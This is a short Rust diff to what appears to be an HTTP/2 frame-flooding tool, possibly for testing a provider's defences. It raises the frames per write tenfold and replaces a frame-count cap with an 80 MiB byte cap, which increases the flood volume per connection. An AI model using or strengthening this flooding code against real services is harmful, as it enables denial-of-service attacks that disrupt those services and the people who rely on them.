@@ -11,10 +11,10 @@ use crate::http2::session::Failure;
 use crate::report::Tally;
 
 /// Frames in one write.
-const FRAMES_AT_A_TIME: usize = 200;
+const FRAMES_AT_A_TIME: usize = 2000;
 
-/// Maximum number of frames of a kind on a connection, so that every kind has its turn.
-const MAX_FRAMES_OF_A_KIND: usize = 20_000;
+/// Maximum number of bytes of a kind on a connection, so that every kind has its turn.
+const MAX_BYTES_OF_A_KIND: usize = 80 << 20;
 
 /// Sends one kind of frame on each connection, until the provider ends it.
 pub async fn flood(attacker: &Attacker, bounds: &Bounds, tally: &Tally) {
@@ -57,7 +57,7 @@ async fn flood_with(
     let mut session = RawSession::open(&attacker.target, &[]).await?;
     session.write(before).await?;
     let bytes = flooding.repeat(FRAMES_AT_A_TIME);
-    while *frames < MAX_FRAMES_OF_A_KIND && bounds.allow(tally.attempts()) {
+    while *frames * flooding.len() < MAX_BYTES_OF_A_KIND && bounds.allow(tally.attempts()) {
         tally.attempt();
         session.write(&bytes).await?;
         *frames += FRAMES_AT_A_TIME;
